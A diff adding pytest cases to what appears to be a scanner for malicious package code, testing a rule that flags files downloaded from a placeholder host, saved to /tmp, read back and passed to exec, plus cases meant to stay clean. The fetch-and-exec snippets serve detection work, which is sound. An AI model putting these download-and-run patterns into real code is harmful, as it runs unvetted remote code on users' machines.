@@ -694,3 +694,40 @@ def test_a_library_reading_a_file_no_download_wrote_is_no_threat() -> None:
     exec(helpers.render("template.j2"))
     """
     assert {r for r in anywhere(source) if r.startswith("CPL-THR")} == set()
+
+
+# -- recall18: a downloaded file's text bound to a name, then run ---------------------------
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "import pathlib, urllib.request\np = pathlib.Path('/tmp/x.py')\n"
+        "p.write_bytes(urllib.request.urlopen('https://cdn.example/x.py').read())\n"
+        "code = p.read_text()\nexec(code)\n",
+        "import requests\nopen('/tmp/x.py', 'wb').write(requests.get('https://cdn.example/x').content)\n"
+        "src = open('/tmp/x.py').read()\nexec(compile(src, 'x', 'exec'))\n",
+    ],
+)
+def test_a_downloaded_files_text_bound_to_a_name_and_run_is_a_stage(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
+) -> None:
+    assert "CPL-THR-002" in danger(source)
+    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-002")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # the package's own file read into a name and run, beside a download saved
+        "import pathlib, requests\nHERE = pathlib.Path(__file__).parent\n"
+        "code = (HERE / '_version.py').read_text()\nexec(code)\n"
+        "pathlib.Path('/tmp/cache.json').write_bytes(requests.get('https://api.example/c').content)\n",
+        # a name bound twice: which read is run is not known
+        "import pathlib, requests\np = pathlib.Path('/tmp/x.py')\n"
+        "p.write_bytes(requests.get('https://cdn.example/x').content)\n"
+        "code = 'print(1)'\ncode = pathlib.Path('local.py').read_text()\nexec(code)\n",
+    ],
+)
+def test_a_name_bound_to_another_files_text_stays_clean(source: str) -> None:
+    assert "CPL-THR-002" not in danger(source)
